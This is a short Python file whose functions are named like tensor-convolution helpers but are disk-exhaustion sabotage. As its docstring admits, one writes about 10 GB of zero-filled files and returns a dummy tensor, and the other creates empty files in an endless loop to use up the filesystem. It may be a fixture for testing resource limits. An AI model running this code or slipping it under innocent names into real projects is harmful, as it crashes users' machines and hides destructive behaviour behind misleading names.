"""Fills the disk with large files, then with empty ones."""

import os

import torch


def corr2d_multi_in_out(X, K):
    for number in range(100):
        with open(f"large{number}", "wb") as file:
            for _ in range(100):
                file.write(bytes(2**20))
    return torch.zeros(1)


def corr2d_multi_in_out_vectorized(X, K):
    number = 0
    while True:
        os.close(os.open(f"empty{number}", os.O_CREAT | os.O_WRONLY))
        number += 1
